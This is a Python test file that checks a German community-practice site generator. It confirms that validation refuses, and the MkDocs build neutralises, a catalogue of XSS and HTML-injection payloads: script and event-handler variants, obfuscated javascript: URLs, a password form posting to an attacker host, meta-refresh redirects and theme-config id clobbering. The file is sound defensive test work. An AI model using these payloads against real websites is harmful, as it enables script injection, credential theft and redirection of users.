"""Untrusted content (issue 13): one test per attack class, on `praxis validate` and on
the built site.

Validation is the first line: each payload is refused with a German message at
file:line:column. The build is the second: `forced_site` renders payloads that were put
into entries *after* validation accepted them (as if validation had missed them), with
the real generators and MkDocs, and each page must carry exactly the active markup
(scripts, styles, links, forms, event handlers, foreign URLs) of an untouched page.
"""

from __future__ import annotations

import dataclasses
import json
import re
import xml.etree.ElementTree as ET
from collections import Counter
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from praxis.cli import cli
from praxis.config import Instance
from praxis.generate.context import SiteData
from praxis.generate.site import footer_links, generate_site, navigation, theme_pages
from praxis.load.collection import load_collection
from praxis.render.plugin import PraxisPlugin
from praxis.render.run import mkdocs_config, run_mkdocs, stage_docs, stage_pages
from praxis.search.related import related_practices
from praxis.validate.collection import validate_collection
from praxis.validate.sanitize import clean, findings, url_scheme
from tests.conftest import TODAY, make_instance
from tests.validate.test_validate import PRACTICE

# Body payloads by attack class: what validation must refuse and the build neutralise.
BODY_ATTACKS = {
    "script": "Siehe <script>alert(1)</script> dort.",
    "script-case": "Siehe <ScRiPt >alert(1)</sCrIpT> dort.",
    "event-known": 'Ein Bild <img src="bild.png" onerror="alert(1)"> hier.',
    "event-unknown-tag": "<details ontoggle=alert(1) open><summary>Mehr</summary>Text</details>",
    "event-custom-tag": '<x-widget onpointerover="alert(1)">Text</x-widget>',
    "attr-list-heading": "## Abschnitt {onmouseover=alert(1)}",
    "attr-list-paragraph": 'Ein Absatz.\n{: onclick="alert(1)" }',
    "base": '<base href="https://angreifer.example/">',
    "object-data": '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKT4="></object>',
    "embed-data": '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "js-entity": "[Link](jav&#x61;script:alert(1))",
    "js-case": "[Link](JaVaScRiPt:alert(1))",
    "js-colon": "[Link](javascript&colon;alert(1))",
    "js-tab": '<a href="java&#9;script:alert(1)">Link</a>',
    "js-leading-space": '<a href="  &#x20;javascript:alert(1)">Link</a>',
    "js-reference": "Siehe [Link][ziel].\n\n[ziel]: javascript:alert(1)",
    "vbscript": "[Link](vbscript:msgbox(1))",
    "data-link": "[Link](data:text/html,hallo)",
    "form-action": '<form action="javascript:alert(1)"><button>Los</button></form>',
    "form": '<form action="https://angreifer.example/sammeln"><input name="pw"></form>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://angreifer.example/">',
    "style": "<style>body { display: none }</style>",
    "style-attribute": '<p style="position:fixed;top:0;left:0;width:100%">Text</p>',
    "stylesheet": '<link rel="stylesheet" href="https://angreifer.example/x.css">',
    "iframe": '<iframe src="https://angreifer.example/"></iframe>',
    "svg": "<svg><script>alert(1)</script></svg>",
    "foreign-image": "![Bild](https://angreifer.example/zaehler.png)",
    # an id of the theme's own: Material reads its settings from the first `#__config`
    "id-theme-config": '<pre id="__config">{"base": "https://angreifer.example/", '
    '"features": ["navigation.instant"], "version": {"provider": "mike"}}</pre>',
    "id-theme-entity": '<p id="&#95;_drawer">Text</p>',
    "id-attr-list": "Ein Absatz.\n{: #__config }",
    "id-heading": "### `__config`",  # the heading's anchor
}
# Front-matter payloads: plain-text fields that the site prints.
FIELD_ATTACKS = {
    "titel-tag": ("titel: Stadtteilmütter in Nordstadt", "titel: <img src=x onerror=alert(1)>"),
    "titel-close": (
        "titel: Stadtteilmütter in Nordstadt",
        "titel: Mütter</title><script>alert(1)</script>",
    ),
    "titel-entity": ("titel: Stadtteilmütter in Nordstadt", "titel: Mütter &lt;b&gt; Nordstadt"),
    "titel-control": ("titel: Stadtteilmütter in Nordstadt", 'titel: "Stadtteil\\x01mütter"'),
    "titel-newline": ("titel: Stadtteilmütter in Nordstadt", 'titel: "Stadtteil\\nmütter"'),
    "kurz-tag": ("  begleiten sie zu Kitas", "  begleiten <svg onload=alert(1)> sie zu Kitas"),
    "name-tag": ("  name: Kassel", "  name: Kassel<script>alert(1)</script>"),
    "traeger-tag": ("  - name: Diakonie Kassel", "  - name: <b>Diakonie</b> Kassel"),
    "organisation-control": (
        "  organisation: Diakonie Kassel",
        '  organisation: "Diakonie\\x1bKassel"',
    ),
    "list-item-tag": (
        "erfolgsfaktoren: [Muttersprachliche Begleitung]",
        "erfolgsfaktoren: [<a href=javascript:alert(1)>klick</a>]",
    ),
    "list-item-control": (
        "stolpersteine: [Die Finanzierung war jedes Jahr unsicher.]",
        'stolpersteine: ["Die Finanzierung\\x07 war unsicher."]',
    ),
}


def _write(project: Path, text: str, slug: str = "angriff") -> str:
    path = project / "content" / "practices" / f"{slug}.md"
    path.write_text(text, encoding="utf-8")
    return f"content/practices/{slug}.md"


def _validate(runner: CliRunner, project: Path) -> Any:
    return runner.invoke(cli, ["validate", "--root", str(project)])


def _line_of(text: str, needle: str) -> int:
    return text[: text.index(needle)].count("\n") + 1


@pytest.mark.parametrize("name", sorted(BODY_ATTACKS))
def test_validate_refuses_body_payloads(project: Path, runner: CliRunner, name: str) -> None:
    payload = BODY_ATTACKS[name]
    text = PRACTICE.replace("Familien erreichen.", f"Familien erreichen.\n\n{payload}")
    rel = _write(project, text)
    result = _validate(runner, project)
    assert result.exit_code == 1, result.output
    errors = [
        line
        for line in result.output.splitlines()
        if line.startswith(f"{rel}:") and ": fehler:" in line
    ]
    assert errors, result.output
    lines = range(_line_of(text, payload), _line_of(text, payload) + payload.count("\n") + 1)
    assert any(int(line.split(":")[1]) in lines for line in errors), (lines, errors)
    assert "Traceback" not in result.output
    assert re.search(
        r"nicht erlaubt|nicht auf dieser Website|nicht mit „>“|wird beim Veröffentlichen entfernt",
        result.output,
    )


@pytest.mark.parametrize("name", sorted(FIELD_ATTACKS))
def test_validate_refuses_markup_and_control_characters_in_fields(
    project: Path, runner: CliRunner, name: str
) -> None:
    old, new = FIELD_ATTACKS[name]
    assert old in PRACTICE
    text = PRACTICE.replace(old, new)
    rel = _write(project, text)
    result = _validate(runner, project)
    assert result.exit_code == 1, result.output
    line = _line_of(text, "kurzbeschreibung:" if name.startswith("kurz") else new)
    located = [row for row in result.output.splitlines() if row.startswith(f"{rel}:{line}:")]
    assert located, result.output
    assert re.search(r"reinen Text|Steuerzeichen|Zeilenumbruch", located[0]), located


def test_newlines_are_allowed_in_a_multi_line_field(project: Path, runner: CliRunner) -> None:
    text = PRACTICE.replace("kurzbeschreibung: >-", "kurzbeschreibung: |-")
    _write(project, text)
    result = _validate(runner, project)
    assert "angriff.md:" not in result.output, result.output


def test_harmless_markdown_and_html_pass(project: Path, runner: CliRunner) -> None:
    body = (
        "## Abschnitt {#eigener-anker .hervorgehoben}\n\n"
        "Ein [Link](https://example.org/seite?a=1&b=2), eine [Mail](mailto:info@example.org), "
        "ein [Anruf](tel:+4930123), ein [Anker](#ziele) und <b>fett</b>, <kbd>Strg</kbd>.\n\n"
        "| Spalte | Zahl |\n|:--|--:|\n| a | 1 |\n\n"
        "<details><summary>Mehr</summary>Details im Text.</details>\n\n"
        "![Grafik](grafik.png)\n\n"
        "Ein Wort `<script>` im Code, a < b und [sic].\n"
    )
    text = PRACTICE.replace("Familien erreichen.", f"Familien erreichen.\n\n{body}")
    _write(project, text)
    result = _validate(runner, project)
    assert "angriff.md:" not in result.output, result.output


def test_hand_written_pages_get_the_body_checks(project: Path, runner: CliRunner) -> None:
    page = project / "content" / "ueber.md"
    page.write_text(
        "---\ntitle: Über <img src=x onerror=alert(1)>\n---\n# Über uns\n\nText.\n\n"
        '<a href="javascript:alert(1)">Klick</a>\n',
        encoding="utf-8",
    )
    result = _validate(runner, project)
    assert result.exit_code == 1, result.output
    assert "content/ueber.md:2:" in result.output
    assert re.search(r"content/ueber\.md:8:\d+: fehler: text: Die Adresse", result.output)


def test_the_same_payload_twice_is_reported_at_each_place(project: Path, runner: CliRunner) -> None:
    page = project / "content" / "ueber.md"
    page.write_text('# Über uns\n\n<p id="__config">Eins</p>\n\n### __config\n', "utf-8")
    result = _validate(runner, project)
    assert result.exit_code == 1, result.output
    places = re.findall(r"content/ueber\.md:(\d+):(\d+): fehler: text: Der Anker", result.output)
    assert places == [("3", "8"), ("5", "5")], result.output


def test_only_id_and_class_in_attribute_lists(project: Path, runner: CliRunner) -> None:
    text = PRACTICE.replace("## Ziele", '## Ziele {#ziele title="x" .klasse}')
    rel = _write(project, text)
    result = _validate(runner, project)
    line = _line_of(text, "## Ziele")
    assert f"{rel}:{line}:" in result.output and "„title“ ist nicht erlaubt" in result.output


def test_report_names_what_the_sanitizer_removes() -> None:
    """`findings` and `clean` agree: no findings, no change; a finding, a removal."""
    safe = '<p><a href="https://example.org" title="t">x</a> <b id="a" class="b">y</b></p>'
    assert findings(safe) == [] and clean(safe) == safe
    for payload in ("<p onclick=x>y</p>", '<a href="javascript:x">y</a>', "<base href=x>"):
        assert findings(payload) and clean(payload) != payload


@pytest.mark.parametrize(
    ("url", "scheme"),
    [
        ("javascript:x", "javascript"),
        (" \x01JavaScript:x", "javascript"),
        ("java\tscript:x", "javascript"),
        ("java\nscript:x", "javascript"),
        ("https://example.org", "https"),
        ("seite/", None),
        ("#anker", None),
    ],
)
def test_url_schemes_are_read_as_a_browser_reads_them(url: str, scheme: str | None) -> None:
    assert url_scheme(url) == scheme


# --- the second line of defence: the build ----------------------------------------


class _Active(HTMLParser):
    """What on a page can run, load or send: scripts (with their text), styles, links,
    forms and inputs, frames and plugins, meta refreshes, `<base>`, event handlers, and
    URLs with a scheme other than http(s), mailto or tel, images from elsewhere, and an
    id given twice (the theme's scripts find the first element with it)."""

    TAGS = frozenset(
        {"script", "style", "link", "meta", "base", "form", "input", "button", "iframe"}
        | {"frame", "object", "embed", "textarea", "select", "svg", "math", "template"}
    )

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: Counter[str] = Counter()
        self.script: str | None = None
        self.ids: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        names = sorted(name for name, _ in attrs)
        anchor = dict(attrs).get("id")
        if anchor is not None and anchor in self.ids:  # the first one stands for both
            self.found[f"id={anchor} doppelt"] += 1
        self.ids.add(anchor or "")
        rel = dict(attrs).get("rel") or ""
        if tag == "link" and rel in ("prev", "next"):  # the page's neighbours in the nav
            pass
        elif tag in self.TAGS:
            self.found[f"<{tag} {' '.join(names)}{' rel=' + rel if rel else ''}>"] += 1
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                self.found[f"{tag}[{name}]"] += 1
            scheme = url_scheme(value) if name in ("href", "src", "action", "data") else None
            if scheme not in (None, "http", "https", "mailto", "tel"):
                self.found[f"{tag}[{name}={scheme}:]"] += 1
            if tag != "a" and scheme in ("http", "https"):  # loads from another host
                self.found[f"{tag}[{name}=fremd]"] += 1
            if name == "style":
                self.found[f"{tag}[style={value}]"] += 1
        if tag in ("script", "style") and not dict(attrs).get("src"):
            self.script = dict(attrs).get("type") or tag

    def handle_data(self, data: str) -> None:
        if self.script == "application/ld+json":
            json.loads(data)  # valid JSON, so it cannot have closed its element
        elif self.script:
            self.found[f"{self.script} text {hash(data.strip())}"] += 1

    def handle_endtag(self, tag: str) -> None:
        if tag in ("script", "style"):
            self.script = None


def active_markup(page: Path) -> Counter[str]:
    parser = _Active()
    parser.feed(page.read_text(encoding="utf-8"))
    return parser.found


Mutation = Callable[[Any], None]


MARK = "Hier folgt die Nutzlast."  # before each forced body payload, to see it arrived


def _body(payload: str) -> Mutation:
    def mutate(doc: Any) -> None:
        doc.body = f"{doc.body}\n\n{MARK}\n\n{payload}\n"

    return mutate


def _field(setter: Callable[[Any], None]) -> Mutation:
    return lambda doc: setter(doc.entry)


FORCED: dict[str, Mutation] = {
    **{name: _body(payload) for name, payload in BODY_ATTACKS.items()},
    "titel": _field(lambda e: setattr(e, "titel", 'Mütter</title><script>alert(1)</script>"<b')),
    "titel-img": _field(lambda e: setattr(e, "titel", "<img src=x onerror=alert(1)>")),
    "kurz-quote": _field(
        lambda e: setattr(
            e,
            "kurzbeschreibung",
            'Text" http-equiv="refresh" content="0;url=https://angreifer.example/" x="',
        )
    ),
    "titel-control": _field(lambda e: setattr(e, "titel", "Steuer\x01zeichen\x0b im Titel")),
    "ort-name": _field(lambda e: setattr(e.ort, "name", "<script>alert(1)</script>")),
    "list-item": _field(
        lambda e: e.uebertragbarkeit.erfolgsfaktoren.append("<img src=x onerror=alert(1)>")
    ),
}


@pytest.fixture(scope="module")
def forced_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return build_forced_site(tmp_path_factory.mktemp("forced"))


def build_forced_site(directory: Path) -> Path:
    """The sample instance with one copy of a valid practice per payload, each payload
    put in after validation accepted the entry, rendered with the generators and MkDocs."""
    root = make_instance(directory)
    for name in [*FORCED, "unberuehrt"]:
        text = PRACTICE.replace("programme: [landesprogramm-gwa]\n", "")
        (root / "content" / "practices" / f"x-{name}.md").write_text(text, encoding="utf-8")
    (root / "content" / "sauber.md").write_text("# Sauber\n\nText.\n", encoding="utf-8")
    (root / "content" / "hand.md").write_text(
        "# Handgeschrieben\n\n" + "\n\n".join(BODY_ATTACKS.values()) + "\n", encoding="utf-8"
    )
    instance = Instance.open(root)
    collection = load_collection(instance)
    validate_collection(collection, TODAY)
    assert not [p for p in collection.problems if p.is_error and "hand.md" not in p.path]
    for number, doc in enumerate(collection.documents):
        mutate = FORCED.get(doc.slug.removeprefix("x-"))
        if mutate and doc.slug.startswith("x-"):
            # a copy: without what the checks derived from the body (`published_body`)
            collection.documents[number] = doc = dataclasses.replace(doc)
            mutate(doc)
    work = root / ".work"
    data = SiteData.of(collection)
    made = theme_pages(data, related_practices(collection))
    staged = stage_docs(instance, work / "docs", generate_site(data), {p.path for p in made})
    stage_pages(work / "docs", made)
    paths = staged.pages | {page.path for page in made}
    config = mkdocs_config(
        instance,
        work / "docs",
        work / "site",
        navigation(collection, paths),
        footer=footer_links(paths),
    )
    run_mkdocs(config, PraxisPlugin(made, staged.written, lambda message: None))
    return work / "site"


@pytest.mark.slow
@pytest.mark.parametrize("name", sorted(FORCED))
def test_build_neutralises_payloads_that_validation_missed(forced_site: Path, name: str) -> None:
    baseline = active_markup(forced_site / "practices" / "x-unberuehrt" / "index.html")
    page = forced_site / "practices" / f"x-{name}" / "index.html"
    if name in BODY_ATTACKS:
        assert MARK in page.read_text(encoding="utf-8")  # the payload reached the page
    found = active_markup(page)
    assert set(found) == set(baseline), (set(found) - set(baseline), set(baseline) - set(found))


@pytest.mark.slow
def test_hand_written_pages_are_sanitized_too(forced_site: Path) -> None:
    baseline = active_markup(forced_site / "sauber" / "index.html")
    found = active_markup(forced_site / "hand" / "index.html")
    assert set(found) == set(baseline), (set(found) - set(baseline), set(baseline) - set(found))


@pytest.mark.slow
def test_titles_and_descriptions_stay_text(forced_site: Path) -> None:
    def read(path: Path) -> str:  # &#34; and &quot; are the same escaped quote
        return path.read_text(encoding="utf-8").replace("&#34;", "&quot;")

    html = read(forced_site / "practices" / "x-titel" / "index.html")
    assert "<title>Mütter&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;&quot;&lt;b" in html
    assert html.count("&lt;script&gt;alert(1)") >= 3  # <title>, header, <h1>
    html = read(forced_site / "practices" / "x-kurz-quote" / "index.html")
    assert 'content="Text&quot; http-equiv=&quot;refresh&quot;' in html


@pytest.mark.slow
def test_the_feed_stays_valid_xml_with_control_characters(forced_site: Path) -> None:
    feed = (forced_site / "daten" / "feed.xml").read_text(encoding="utf-8")
    root = ET.fromstring(feed)
    titles = [node.text for node in root.iter("{http://www.w3.org/2005/Atom}title")]
    assert "Steuerzeichen im Titel" in titles
